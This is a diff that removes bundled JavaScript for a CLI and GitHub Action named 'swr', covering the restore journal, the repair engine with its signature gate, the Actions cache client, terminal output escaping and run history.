-            const secrets = (entry.secret_env ?? [])
-                .map(n => opts.callerEnv[n])
-                .filter((v) => v !== undefined);
-            const result = await runRecipe({
-                id: entry.id,
-                command: src.command,
-                shell: opts.manifest.body.shell ?? DEFAULT_SHELL,
-                cwd: opts.manifest.workspace,
-                env: minimalEnv(opts.callerEnv, [...(entry.env ?? []), ...(entry.secret_env ?? [])]),
-                timeoutMs: timeoutS * 1000
-            }, { abort: opts.abort, onLine: opts.onLine, scrub: makeScrubber(secrets) });
-            const { id: _id, ...recipe } = result;
-            const how = `recipe ${describeResult(result, timeoutS * 1000)}`;
-            if (result.interrupted)
-                return { recipe, attempt: { source: 'recipe', outcome: 'interrupted', detail: how } };
-            if (result.timedOut || result.exitCode !== 0)
-                return { recipe, attempt: { source: 'recipe', outcome: 'failed', detail: how } };
-            return { recipe, attempt: { source: 'recipe', outcome: 'healed', detail: how } };
-        }
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/state/journal.ts
-/**
- * The restore journal: an append-only record of what an interrupted restore already repaired, so
- * `--resume` can continue. One JSON line per event, each appended with a single write and fsynced.
- * A journal written for another manifest digest or workspace is ignored.
- */
-
-
-
-
-
-function journalPath(stateDir, workspace) {
-    const key = (0,external_node_crypto_.createHash)('sha256').update(external_node_path_default().resolve(workspace)).digest('hex').slice(0, 32);
-    return external_node_path_default().join(stateDir, 'journal', `${key}.jsonl`);
-}
-function resumeState(stateDir, workspace, digest) {
-    const none = { interrupted: false, repaired: new Set() };
-    let lines;
-    try {
-        lines = external_node_fs_default().readFileSync(journalPath(stateDir, workspace), 'utf8').split('\n').filter(Boolean);
-    }
-    catch {
-        return none;
-    }
-    const repaired = new Set();
-    try {
-        const head = JSON.parse(lines[0] ?? '');
-        if (head.v !== 1 || head.digest !== digest || head.workspace !== external_node_path_default().resolve(workspace))
-            return none;
-        for (const line of lines.slice(1)) {
-            const e = JSON.parse(line);
-            if (e.id === '*' && e.outcome === 'finished')
-                return none;
-            if (e.outcome === 'repaired')
-                repaired.add(e.id);
-        }
-    }
-    catch {
-        // A torn last line from a killed run: keep what was read before it.
-    }
-    return { interrupted: true, repaired };
-}
-function openJournal(stateDir, workspace, digest, now, resume) {
-    ensurePrivateDir(stateDir, 'journal');
-    const file = journalPath(stateDir, workspace);
-    if (!resume || !resumeState(stateDir, workspace, digest).interrupted) {
-        const head = {
-            v: 1,
-            digest,
-            workspace: external_node_path_default().resolve(workspace),
-            started: now.toISOString()
-        };
-        writeFileAtomic(file, JSON.stringify(head) + '\n', { mode: 0o600 });
-    }
-    const append = (e) => appendRecord(file, JSON.stringify(e) + '\n');
-    return {
-        file,
-        append,
-        close: () => append({ id: '*', outcome: 'finished', at: new Date().toISOString() })
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/doctor.ts
-/**
- * restore and doctor as one engine call, shared by the CLI and the Action:
- *
- *   check -> plan -> gate -> run the plan (journal, quarantine) -> re-verify -> report
- *
- * Both re-check the whole selection uncached at the end (restore also re-verifies each step as it
- * runs), so damage a recipe did to another entry is seen and named. The
- * caller hears each phase through hooks (to print, group logs, or stay silent) and gets a report
- * that says what happened and which exit code that means.
- */
-
-
-
-
-
-
-
-
-
-
-
-async function repairManifest(m, opts) {
-    const hooks = opts.hooks ?? {};
-    const check = (cache, known) => checkManifest(m, {
-        only: opts.only,
-        known,
-        cache,
-        stateDir: opts.stateDir,
-        version: opts.version,
-        command: opts.mode,
-        jobs: opts.jobs
-    });
-    const before = await check(opts.cache !== false);
-    const plan = planRepair(m.body.entries, before.results);
-    hooks.onCheck?.(before, plan);
-    const finish = (outcome, code, steps, final, gate, harmed = []) => {
-        const repair = {
-            mode: opts.mode,
-            dry_run: opts.dryRun === true,
-            before: {
-                summary: before.summary,
-                signature: before.diagnosis.signature,
-                cause: before.diagnosis.cause
-            },
-            plan: plan.waves,
-            ...(gate
-                ? { gate: { allowed: gate.allowed, reason: gate.reason, warnings: gate.warnings } }
-                : {}),
-            steps,
-            ...(harmed.length > 0 ? { collateral: harmed } : {}),
-            write_back: writeBack(m, steps),
-            outcome,
-            exit_code: code
-        };
-        return { ...final, repair };
-    };
-    if (before.verdict === 'healthy')
-        return finish('healthy', EXIT.HEALTHY, [], before);
-    if (opts.dryRun)
-        return finish('damaged', EXIT.DAMAGED, [], before);
-    const gate = await decide(gateInput(m), opts.policy);
-    hooks.onGate?.(gate);
-    if (!gate.allowed)
-        return finish('refused', EXIT.UNREPAIRABLE, [], before, gate);
-    if (opts.rememberAccepted)
-        remember(opts.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
-    const resumed = opts.resume ? resumeState(opts.stateDir, m.workspace, m.digest) : undefined;
-    const already = resumed?.repaired ?? new Set();
-    if (resumed)
-        hooks.onResume?.(already.size, resumed.interrupted);
-    const journal = openJournal(opts.stateDir, m.workspace, m.digest, new Date(), opts.resume === true);
-    const steps = await runRepair({
-        manifest: m,
-        plan,
-        gate,
-        callerEnv: opts.callerEnv,
-        reverify: reverifier(m, opts.stateDir, opts.jobs),
-        reverifyAt: scratchVerifier(m, opts.stateDir, opts.jobs),
-        jobs: opts.jobs ?? 1,
-        timeoutS: opts.timeoutS,
-        quarantine: opts.quarantine ? { stateDir: opts.stateDir, ...opts.quarantineLimits } : undefined,
-        alreadyRepaired: already,
-        journal,
-        abort: opts.abort,
-        cache: opts.cacheClient,
-        onLine: hooks.onLine,
-        onStep: hooks.onStep
-    });
-    const interrupted = steps.some(s => s.outcome === 'interrupted') || opts.abort?.aborted === true;
-    if (!interrupted)
-        journal.close();
-    // Entries a cache archive healed were proven byte by byte as they were extracted, moments ago:
-    // the final uncached check takes those findings instead of reading them a second time.
-    const proven = new Map(steps.flatMap(s => s.outcome === 'repaired' && s.source === 'cache' && isProven(s.after)
-        ? [[s.id, s.after]]
-        : []));
-    // The verdict comes from an uncached check of the whole selection, restore included: a recipe
-    // may damage an entry it was not asked to touch, and only a full re-check sees that.
-    const final = interrupted
-        ? merge(before, m, steps, opts, true)
-        : merge(await check(false, proven), m, steps, opts, false);
-    const harmed = collateral(before, final, steps);
-    hooks.onFinal?.(final);
-    const [outcome, code] = verdict(final, steps, interrupted, harmed);
-    return finish(outcome, code, steps, final, gate, harmed);
-}
-/**
- * Entries that verified before the repair and do not after it: damage a recipe did on the side.
- * Each is named with the steps that ran before the re-check found it (the likely culprits).
- */
-function collateral(before, final, steps) {
-    const wasOk = new Set(before.results.filter(f => f.status === 'OK').map(f => f.id));
-    const ran = steps.filter(s => s.outcome !== 'skipped' && s.source === 'recipe').map(s => s.id);
-    return final.results
-        .filter(f => wasOk.has(f.id) && f.status !== 'OK' && f.status !== 'SKIPPED')
-        .map(f => ({ id: f.id, status: f.status, detail: f.detail, after: ran }));
-}
-/**
- * Entries a recipe healed and re-verified: their state is worth saving to the cache under the
- * key of their signed expectations, so the next run restores it without running code.
- */
-function writeBack(m, steps) {
-    const entries = new Map(m.body.entries.map(e => [e.id, e]));
-    return steps.flatMap(s => {
-        const e = entries.get(s.id);
-        return s.outcome === 'repaired' && s.source === 'recipe' && e
-            ? [{ id: s.id, key: stateKey(e) }]
-            : [];
-    });
-}
-/** Which entries have a cache saved for exactly their expected state (no download). */
-async function lookupSavedStates(m, entries, cache) {
-    const out = [];
-    for (const e of entries) {
-        const key = stateKey(e);
-        out.push({
-            id: e.id,
-            key,
-            available: await cache.lookup(resolveEntryPath(m.workspace, e.path), key)
-        });
-    }
-    return out;
-}
-/**
- * The report of the final state, from `base` (the final check, or the first check when an
- * interruption left no time for one): entries whose step was skipped because a dependency failed
- * are SKIPPED rather than their damage; with `stepFindings`, each step's own re-verification
- * stands for its entry.
- */
-function merge(base, m, steps, opts, stepFindings) {
-    const after = new Map(stepFindings ? steps.flatMap(s => (s.after ? [[s.id, s.after]] : [])) : []);
-    const skipped = new Map(steps.filter(s => s.outcome === 'skipped').map(s => [s.id, s.detail]));
-    if (after.size === 0 && skipped.size === 0)
-        return base;
-    const findings = base.results.map(f => {
-        const a = after.get(f.id);
-        if (a)
-            return a;
-        const why = skipped.get(f.id);
-        return why && f.status !== 'OK'
-            ? { ...f, status: 'SKIPPED', reason: 'dependency', detail: why }
-            : f;
-    });
-    return buildReport({
-        command: opts.mode,
-        version: opts.version,
-        manifest: m,
-        findings,
-        options: base.options,
-        started: new Date(base.timing.started),
-        ms: Date.now() - Date.parse(base.timing.started)
-    });
-}
-function verdict(final, steps, interrupted, harmed) {
-    if (interrupted)
-        return ['interrupted', EXIT.INTERRUPTED];
-    if (final.verdict === 'healthy')
-        return ['repaired', EXIT.HEALTHY];
-    if (harmed.length > 0 || steps.some(s => s.outcome === 'still-damaged'))
-        return ['still-damaged', EXIT.STILL_DAMAGED];
-    return ['unrepairable', EXIT.UNREPAIRABLE];
-}
-
-;// CONCATENATED MODULE: ./src/adapters/cache-service.ts
-
-
-const SERVICE = 'github.actions.results.api.v1.CacheService';
-const VERSION_SALT = '1.0';
-/** The client's names for the compressions it writes (zstd is always without --long now). */
-const METHODS = [
-    ['zstd-without-long', 'zstd'],
-    ['gzip', 'gzip']
-];
-/** The cache version @actions/cache computes for `paths` saved with `method` (not on Windows). */
-function cacheVersion(paths, method) {
-    return (0,external_node_crypto_.createHash)('sha256')
-        .update([...paths, method, VERSION_SALT].join('|'))
-        .digest('hex');
-}
-/** How the archive names `abs`: relative to the job's workspace (the client's tar -C), POSIX. */
-function archivePrefix(abs, env) {
-    const ws = env.GITHUB_WORKSPACE || process.cwd();
-    return external_node_path_default().relative(ws, external_node_path_default().resolve(abs)).split((external_node_path_default()).sep).join('/') || '.';
-}
-/** The path spellings whose versions are asked for: absolute, then workspace-relative. */
-function pathForms(abs, env) {
-    const forms = [external_node_path_default().resolve(abs), archivePrefix(abs, env)];
-    return [...new Set(forms)];
-}
-function isGhes(env) {
-    const host = new URL(env.GITHUB_SERVER_URL || 'https://github.com').hostname.toUpperCase();
-    return !(host === 'GITHUB.COM' || host.endsWith('.GHE.COM') || host.endsWith('.LOCALHOST'));
-}
-/** Loaded on first use: most CLI commands never talk to the cache, and the client is large. */
-let httpModule;
-async function newHttpClient(...args) {
-    httpModule ??= __nccwpck_require__.e(/* import() */ 942).then(__nccwpck_require__.bind(__nccwpck_require__, 4942));
-    return new (await httpModule).HttpClient(...args);
-}
-class CacheService {
-    env;
-    httpClient;
-    http() {
-        this.httpClient ??= newHttpClient('swr', [], { allowRetries: true, maxRetries: 2 });
-        return this.httpClient;
-    }
-    constructor(env) {
-        this.env = env;
-    }
-    get v2() {
-        return !isGhes(this.env) && Boolean(this.env.ACTIONS_CACHE_SERVICE_V2);
-    }
-    auth() {
-        return { Authorization: `Bearer ${this.env.ACTIONS_RUNTIME_TOKEN ?? ''}` };
-    }
-    /** One lookup of `keys` under one version; undefined on a miss. Throws when unreachable. */
-    async ask(key, restoreKeys, version) {
-        if (this.v2) {
-            const base = this.env.ACTIONS_RESULTS_URL ?? '';
-            const url = new URL(`/twirp/${SERVICE}/GetCacheEntryDownloadURL`, base).href;
-            const res = await (await this.http()).post(url, JSON.stringify({ key, restore_keys: restoreKeys, version }), {
-                ...this.auth(),
-                'Content-Type': 'application/json',
-                Accept: 'application/json'
-            });
-            const body = await res.readBody();
-            if (res.message.statusCode !== 200)
-                throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
-            const r = JSON.parse(body);
-            return r.ok && r.signed_download_url && r.matched_key
-                ? { matchedKey: r.matched_key, url: r.signed_download_url }
-                : undefined;
-        }
-        const base = this.env.ACTIONS_CACHE_URL || this.env.ACTIONS_RESULTS_URL || '';
-        const q = `keys=${encodeURIComponent([key, ...restoreKeys].join(','))}&version=${version}`;
-        const res = await (await this.http()).get(new URL(`_apis/artifactcache/cache?${q}`, base).href, {
-            ...this.auth(),
-            Accept: 'application/json;api-version=6.0-preview.1'
-        });
-        const body = await res.readBody();
-        if (res.message.statusCode === 204)
-            return undefined;
-        if (res.message.statusCode !== 200)
-            throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
-        const r = JSON.parse(body);
-        return r.cacheKey && r.archiveLocation
-            ? { matchedKey: r.cacheKey, url: r.archiveLocation }
-            : undefined;
-    }
-    /** The newest archive for `key` (or a restore-keys prefix) under any spelling of `abs`. */
-    async find(abs, key, restoreKeys) {
-        const prefix = archivePrefix(abs, this.env);
-        for (const [method, compression] of METHODS) {
-            for (const form of pathForms(abs, this.env)) {
-                const found = await this.ask(key, restoreKeys, cacheVersion([form], method));
-                if (!found)
-                    continue;
-                return {
-                    matchedKey: found.matchedKey,
-                    exact: found.matchedKey === key,
-                    compression,
-                    prefix,
-                    open: () => this.download(found.url)
-                };
-            }
-        }
-        return undefined;
-    }
-    async download(url) {
-        // A signed URL: no token sent to storage, and the URL itself never printed.
-        const res = await (await newHttpClient('swr')).get(url);
-        const status = res.message.statusCode ?? 0;
-        if (status !== 200) {
-            res.message.resume();
-            throw new Error(`the archive download answered ${status}`);
-        }
-        return res.message;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/adapters/actions-cache.ts
-/**
- * The real Actions cache behind the engine's CacheClient port, for the Action and for the CLI on a
- * runner. Restores never go through @actions/cache's restoreCache (it extracts with `tar -P` into
- * the workspace): cache-service.ts finds and streams the archive and the engine unpacks it. The
- * client is loaded only to save and to look up, with a private temp directory when RUNNER_TEMP is
- * unset and its workflow commands kept off a terminal.
- */
-
-
-
-
-/** The cache service is reachable from this process (v2 results service, or the v1 cache URL). */
-function cacheServiceAvailable(env) {
-    return Boolean(env.ACTIONS_RUNTIME_TOKEN && (env.ACTIONS_RESULTS_URL || env.ACTIONS_CACHE_URL));
-}
-/** Saves are off in read-only cache mode (ACTIONS_CACHE_MODE=read, or none). */
-function cacheReadOnly(env) {
-    return env.ACTIONS_CACHE_MODE === 'read' || env.ACTIONS_CACHE_MODE === 'none';
-}
-/** The same client, calling `before` ahead of every request (the Action closes its log shield). */
-function withBefore(client, before) {
-    return {
-        find: (abs, key, restoreKeys) => (before(), client.find(abs, key, restoreKeys)),
-        lookup: (abs, key) => (before(), client.lookup(abs, key)),
-        save: (abs, key) => (before(), client.save(abs, key))
-    };
-}
-/** A workflow command's message as written (%25, %0D, %0A decoded), on one line. */
-function unescapeCommand(msg) {
-    return msg
-        .replace(/%0D|%0A/gi, ' ')
-        .replace(/%25/g, '%')
-        .trim();
-}
-let actions_cache_loaded;
-async function client() {
-    actions_cache_loaded ??= await Promise.all(/* import() */[__nccwpck_require__.e(942), __nccwpck_require__.e(423)]).then(__nccwpck_require__.bind(__nccwpck_require__, 9423));
-    return actions_cache_loaded;
-}
-function actionsCacheClient(opts) {
-    // Absolute paths: the client resolves relative ones against the process's cwd but archives them
-    // relative to GITHUB_WORKSPACE, and the cache version hashes the path strings as given.
-    const spell = (abs) => external_node_path_default().resolve(abs);
-    const onRunner = opts.env.GITHUB_ACTIONS === 'true';
-    const quietly = async (fn) => {
-        // The client reads RUNNER_TEMP from process.env and falls back to /home/actions/temp.
-        const temp = process.env.RUNNER_TEMP
-            ? undefined
-            : external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-cache-'));
-        if (temp)
-            process.env.RUNNER_TEMP = temp;
-        try {
-            return await muted(fn);
-        }
-        finally {
-            if (temp) {
-                delete process.env.RUNNER_TEMP;
-                external_node_fs_default().rmSync(temp, { recursive: true, force: true });
-            }
-        }
-    };
-    const muted = async (fn) => {
-        if (!opts.logToStderr)
-            return fn();
-        const write = process.stdout.write.bind(process.stdout);
-        const stderrWrite = process.stderr.write.bind(process.stderr);
-        // The client's debug lines only matter when the runner asks for them (RUNNER_DEBUG=1).
-        const debug = opts.env.RUNNER_DEBUG === '1';
-        process.stdout.write = ((chunk) => {
-            const text = typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
-            if (!onRunner) {
-                // A terminal gets swr's own line for what the client warns about, no workflow commands.
-                for (const m of text.matchAll(/^::(?:warning|error)[^:]*::(.*)$/gm))
-                    opts.onNote?.(`cache: ${unescapeCommand(m[1] ?? '')}`);
-                return true;
-            }
-            const kept = debug
-                ? text
-                : text
-                    .split(/(?<=\n)/)
-                    .filter(l => !l.startsWith('::debug::'))
-                    .join('');
-            return kept ? stderrWrite(kept) : true;
-        });
-        try {
-            return await fn();
-        }
-        finally {
-            process.stdout.write = write;
-        }
-    };
-    const service = new CacheService(opts.env);
-    const note = (what, err) => opts.onNote?.(`cache ${what}: ${err instanceof Error ? err.message : String(err)}`);
-    return {
-        async find(abs, key, restoreKeys) {
-            try {
-                return await service.find(abs, key, restoreKeys);
-            }
-            catch (err) {
-                note(`restore of ${key} failed`, err);
-                return undefined;
-            }
-        },
-        async lookup(abs, key) {
-            try {
-                const cache = await client();
-                return ((await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }))) ===
-                    key);
-            }
-            catch (err) {
-                note(`lookup of ${key} failed`, err);
-                return false;
-            }
-        },
-        async save(abs, key) {
-            try {
-                const cache = await client();
-                // The client reports "already exists" and "unreachable" alike (-1): ask first.
-                const existing = await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }));
-                if (existing === key)
-                    return 'exists';
-                const id = await quietly(() => cache.saveCache([spell(abs)], key));
-                return id === -1 ? 'failed' : 'saved';
-            }
-            catch (err) {
-                const name = err instanceof Error ? err.name : '';
-                if (name === 'ReserveCacheError' || /already exists/i.test(String(err)))
-                    return 'exists';
-                note(`save of ${key} failed`, err);
-                return 'failed';
-            }
-        }
-    };
-}
-
-;// CONCATENATED MODULE: ./src/cli/io.ts
-/**
- * What a command may touch of the outside world, passed in so tests can run commands in-process
- * with their own streams and environment.
- */
-
-
-
-/**
- * The commands that start processes of their own (recipes, smoke commands): on an interrupt they
- * stop them, report what was interrupted and exit 130 themselves.
- */
-const OWN_INTERRUPT = new Set(['doctor', 'restore', 'selftest']);
-function ownsInterrupt(argv) {
-    return OWN_INTERRUPT.has(argv[2] ?? '') || argv.includes('--run-smoke');
-}
-/**
- * The real process: its streams, environment, and SIGINT/SIGTERM wired to an abort signal. Any
- * other command stops at once with 130: it starts nothing that could outlive it, its writes are
- * atomic, and what it holds (the workspace lock, a walk's temporary files) is let go by exit
- * handlers. A check of a large tree must not run on for seconds after Ctrl-C.
- */
-function processIo(argv = process.argv) {
-    const controller = new AbortController();
-    const owns = ownsInterrupt(argv);
-    const exitNow = (message, code) => {
-        // As every error: with --json, stdout still ends with one JSON document.
-        if (argv.includes('--json'))
-            process.stdout.write(JSON.stringify({ schema: 'swr.error/1', error: message, exit_code: code }) + '\n');
-        process.stderr.write(`swr: ${message}\n`);
-        process.exit(code);
-    };
-    const onSignal = () => {
-        if (!owns)
-            exitNow('interrupted', EXIT.INTERRUPTED);
-        controller.abort();
-    };
-    // once: a second Ctrl-C falls through to the default handler and ends swr at once. A closed
-    // terminal or a dropped SSH session (SIGHUP) is an interrupt too: recipes are stopped first.
-    process.once('SIGINT', onSignal);
-    process.once('SIGTERM', onSignal);
-    process.once('SIGHUP', onSignal);
-    return {
-        cwd: process.cwd(),
-        env: process.env,
-        home: external_node_os_default().homedir(),
-        stdout: process.stdout,
-        stderr: process.stderr,
-        abort: controller.signal,
-        stop: (message, code) => {
-            if (!owns)
-                exitNow(message, code);
-            process.stderr.write(`swr: ${message}; stopping\n`);
-            controller.abort();
-        }
-    };
-}
-/** Colour only on a terminal, never with NO_COLOR (any value) or --no-color. */
-function useColor(io, flag) {
-    return flag && io.stdout.isTTY === true && io.env.NO_COLOR === undefined && io.env.TERM !== 'dumb';
-}
-/** A control or bidi character anywhere in a chunk (the common case has none: pass it through). */
-// eslint-disable-next-line no-control-regex
-const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
-/** What swr itself writes to a terminal: colour, line erase and carriage return (progress). */
-// eslint-disable-next-line no-control-regex
-const OWN_TTY = /(\x1b\[[0-9;]*m|\x1b\[K|\r|\n)/;
-/**
- * A stream that shows every control character visibly (`\x1b`, `\r`, `\u202e`) except the line
- * breaks, and on a terminal swr's own colour and progress sequences. Untrusted strings are
- * escaped where they are formatted; this catches any that were not, so a file name can never
- * move the cursor, erase a line or recolour what follows.
- */
-function guarded(stream) {
-    const tty = stream.isTTY === true;
-    return {
-        ...(stream.isTTY !== undefined ? { isTTY: stream.isTTY } : {}),
-        write(s) {
-            if (typeof s !== 'string' || !CONTROL.test(s))
-                return stream.write(s);
-            const parts = tty ? s.split(OWN_TTY) : s.split(/(\n)/);
-            return stream.write(parts.map((p, i) => (i % 2 === 1 ? p : escapeText(p))).join(''));
-        }
-    };
-}
-/** `io` with stderr (and stdout, unless it carries JSON) guarded. */
-function guardedIo(io, json) {
-    return { ...io, stdout: json ? io.stdout : guarded(io.stdout), stderr: guarded(io.stderr) };
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/repair.ts
-/**
- * `swr restore` and `swr doctor`: the engine's repairManifest, printed as it goes. Exit 0 healthy
- * or healed, 1 damaged (dry run), 2 unrepairable or refused, 3 still damaged after repair, 130
- * interrupted.
- */
-
-
-
-
-
-
-
-
-
-
-
-
-function repairCommand(mode, flags, io) {
-    return withManifestLock(flags, io, () => repair(mode, flags, io));
-}
-async function repair(mode, flags, io) {
-    const say = (s) => {
-        if (!flags.json && !flags.quiet)
-            io.stdout.write(s);
-    };
-    const m = loadManifest(manifestLocation(flags, io).file, {
-        workspace: flags.workspace,
-        cwd: io.cwd
-    });
-    return withWorkspaceLock(m.workspace, flags, io, () => repairLocked(mode, m, flags, io, say));
-}
-async function repairLocked(mode, m, flags, io, say) {
-    const text = { color: useColor(io, flags.color), all: false };
-    const cacheClient = cliCacheClient(m, io);
-    const report = await repairManifest(m, {
-        cacheClient,
-        mode,
-        version: VERSION,
-        stateDir: stateDir(io),
-        policy: buildPolicy(m, flags, io),
-        rememberAccepted: flags.iTrustThisManifest === undefined,
-        callerEnv: io.env,
-        only: flags.only,
-        dryRun: flags.dryRun,
-        cache: flags.cache,
-        jobs: flags.jobs,
-        timeoutS: flags.timeout,
-        quarantine: flags.quarantine,
-        quarantineLimits: quarantineLimits(io.env),
-        resume: flags.resume,
-        abort: io.abort,
-        hooks: {
-            onCheck: (before, plan) => {
-                // What the platform kept, before anything was repaired.
-                if (flags.record)
-                    recordCheck(before, m, io);
-                const damaged = before.results.filter(f => f.status !== 'OK');
-                say('== check ==\n');
-                if (damaged.length > 0)
-                    say(findingLines(damaged, text).join('\n') + '\n');
-                say(`${before.summary.ok}/${before.summary.entries} healthy${damaged.length ? `, ${damaged.length} damaged (${before.diagnosis.signature})` : ''}\n`);
-                if (damaged.length > 0)
-                    say(`== plan ==\n${renderPlan(plan.waves, text)}`);
-            },
-            onGate: gate => {
-                for (const w of gate.warnings)
-                    io.stderr.write(`swr: warning: ${w}\n`);
-                if (gate.allowed)
-                    say(`== restore ==   (${gate.reason})\n`);
-                else {
-                    io.stderr.write(`swr: refusing to run restore recipes: ${gate.reason}\n`);
-                    io.stderr.write('swr: review the manifest (its recipes are code), then sign it ("swr sign") or trust its signer ("swr trust add"); "swr verify" shows its digest\n');
-                }
-            },
-            onResume: (n, interrupted) => say(n > 0
-                ? `resuming: ${n} entries were repaired by the interrupted run\n`
-                : interrupted
-                    ? 'resuming: the interrupted run repaired no entry yet; its steps run again\n'
-                    : 'resume: no interrupted restore of this manifest to continue\n'),
-            onLine: (id, line) => say(`  [${id}] ${line}\n`),
-            onStep: r => say(renderStep(r, text)),
-            onFinal: final => say(`== re-check ==\n${renderCheck(final, text)}`)
-        }
-    });
-    if (report.repair.collateral)
-        say(renderCollateral(report.repair.collateral, text));
-    if (cacheClient && report.repair.write_back.length > 0) {
-        if (cacheReadOnly(io.env))
-            say('cache: read-only mode (ACTIONS_CACHE_MODE=read): healed entries not saved\n');
-        else {
-            for (const w of report.repair.write_back) {
-                const e = m.body.entries.find(x => x.id === w.id);
-                if (!e)
-                    continue;
-                const saved = await cacheClient.save(resolveEntryPath(m.workspace, e.path), w.key);
-                say(`cache: ${w.id} ${saved === 'saved' ? 'saved as' : saved === 'exists' ? 'already saved as' : 'could not be saved as'} ${w.key}\n`);
-            }
-        }
-    }
-    if (flags.json)
-        io.stdout.write(JSON.stringify(report, null, 2) + '\n');
-    return report.repair.exit_code;
-}
-/** The Actions cache when its service is reachable; otherwise cache sources are skipped, said once. */
-function cliCacheClient(m, io) {
-    if (cacheServiceAvailable(io.env)) {
-        return actionsCacheClient({
-            env: io.env,
-            logToStderr: true,
-            onNote: line => void io.stderr.write(`swr: ${line}\n`)
-        });
-    }
-    if (m.body.entries.some(e => restoreSources(e).some(s => typeof s !== 'string'))) {
-        io.stderr.write('swr: cache sources skipped: no Actions cache service here (ACTIONS_RESULTS_URL and ACTIONS_RUNTIME_TOKEN unset)\n');
-    }
-    return undefined;
-}
-/** SWR_QUARANTINE_KEEP_DAYS and SWR_QUARANTINE_MAX_MB, when set to a non-negative number. */
-function quarantineLimits(env) {
-    const num = (name) => {
-        const v = env[name];
-        if (v === undefined || v === '')
-            return undefined;
-        const n = Number(v);
-        if (!Number.isFinite(n) || n < 0)
-            throw new UsageError(`${name}=${v}: give a number of 0 or more`);
-        return n;
-    };
-    const days = num('SWR_QUARANTINE_KEEP_DAYS');
-    const mb = num('SWR_QUARANTINE_MAX_MB');
-    return {
-        ...(days !== undefined ? { keepMs: days * 86_400_000 } : {}),
-        ...(mb !== undefined ? { totalBytes: mb * 1024 * 1024 } : {})
-    };
-}
-
-;// CONCATENATED MODULE: ./src/cli/progress.ts
-const GIB = 1024 ** 3;
-const progress_MIB = 1024 ** 2;
-function bytes(n) {
-    return n >= GIB ? `${(n / GIB).toFixed(1)} GiB` : `${(n / progress_MIB).toFixed(0)} MiB`;
-}
-function startProgress(io, label, enabled) {
-    if (!enabled || io.stderr.isTTY !== true)
-        return { update: () => undefined, stop: () => undefined };
-    const t0 = Date.now();
-    let last = 0;
-    let shown = false;
-    return {
-        update(done, total) {
-            const now = Date.now();
-            if (now - t0 < 1000 || now - last < 100)
-                return;
-            last = now;
-            shown = true;
-            const pct = total > 0 ? Math.floor((done / total) * 100) : 100;
-            io.stderr.write(`\r${label}: ${bytes(done)} / ${bytes(total)} (${pct}%)   `);
-        },
-        stop() {
-            if (shown)
-                io.stderr.write('\r\x1b[K');
-        }
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/history/advice.ts
-
-/** Only a pattern is worth a line: at least two losses, and at least 30% of the window. */
-function isPattern(c) {
-    return c.lost >= 2 && c.lost / c.of >= 0.3;
-}
-function historyAdvice(e, c) {
-    if (!isPattern(c))
-        return undefined;
-    const ideas = [];
-    if (e.tier > 0)
-        ideas.push(`a lower tier than ${e.tier} so it is restored before what needs it`);
-    if (!restoreSources(e).some(s => typeof s !== 'string'))
-        ideas.push('a cache source ("restore": [{"cache": {...}}, ...]) so it comes back from the Actions cache');
-    if (e.kind === 'file' && !e.escrow && e.expect.size <= 256 * 1024)
-        ideas.push('escrow ("swr escrow --only ' + e.id + '") so it restores without a recipe');
-    const base = `damaged in ${c.lost} of the last ${c.of} recorded checks: this platform does not keep it`;
-    return ideas.length > 0 ? `${base}; consider ${ideas.join(', or ')}` : base;
-}
-
-;// CONCATENATED MODULE: ./src/core/history/context.ts
-/**
- * Who made an observation: enough of the runner, job and machine to tell the platforms apart
- * when their survival differs. Built from an environment the shell passes in.
- */
-
-const FROM_ENV = [
-    ['runner_os', 'RUNNER_OS'],
-    ['runner_name', 'RUNNER_NAME'],
-    ['runner_arch', 'RUNNER_ARCH'],
-    ['repository', 'GITHUB_REPOSITORY'],
-    ['workflow', 'GITHUB_WORKFLOW'],
-    ['job', 'GITHUB_JOB'],
-    ['run_id', 'GITHUB_RUN_ID'],
-    ['run_attempt', 'GITHUB_RUN_ATTEMPT']
-];
-function runContext(env) {
-    const ctx = { platform: `${process.platform}-${process.arch}` };
-    for (const [field, name] of FROM_ENV) {
-        const v = env[name];
-        if (v)
-            ctx[field] = v.slice(0, 200);
-    }
-    if (!ctx.runner_name)
-        ctx.host = external_node_os_default().hostname().slice(0, 200);
-    return ctx;
-}
-/** One short label for tables: `Linux/runner-3`, `host.local`. */
-function contextLabel(ctx) {
-    if (ctx.runner_os || ctx.runner_name)
-        return [ctx.runner_os, ctx.runner_name].filter(Boolean).join('/');
-    return ctx.host ?? ctx.platform;
-}
-
-;// CONCATENATED MODULE: ./src/core/history/history.ts
-/**
- * The history: one JSON line per observation (a canary read, a recorded check), in the private
- * state directory. Bounded: when the current file reaches its limit it becomes `history.1.jsonl`
- * (replacing the previous generation), so the history never grows without end and the newest
- * records are never the ones dropped. Appends use O_APPEND with one write per record, so
- * concurrent writers interleave whole lines; a line that does not parse is skipped on read.
- */
-
-
-
-
-const HISTORY_FILE = 'history.jsonl';
-const HISTORY_ROTATED = 'history.1.jsonl';
-const history_DEFAULT_LIMITS = {
-    maxRecords: 1000,
-    maxBytes: 4 * 1024 * 1024
-};
-/** One check's record: the status of every entry it checked (for stats and `swr why`). */
-function checkRecord(report, manifest, context) {
-    return {
-        v: 1,
-        kind: 'check',
-        time: report.timing.started,
-        context,
-        manifest: manifest.file,
-        digest: manifest.digest,
-        entries: Object.fromEntries(report.results.map(f => [f.id, f.status]))
-    };
-}
-function countLines(file) {
-    const buf = external_node_fs_default().readFileSync(file);
-    let n = 0;
-    for (let i = buf.indexOf(10); i !== -1; i = buf.indexOf(10, i + 1))
-        n++;
-    return n;
-}
-function rotateIfFull(dir, limits) {
-    const file = external_node_path_default().join(dir, HISTORY_FILE);
-    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
-    if (!st)
-        return;
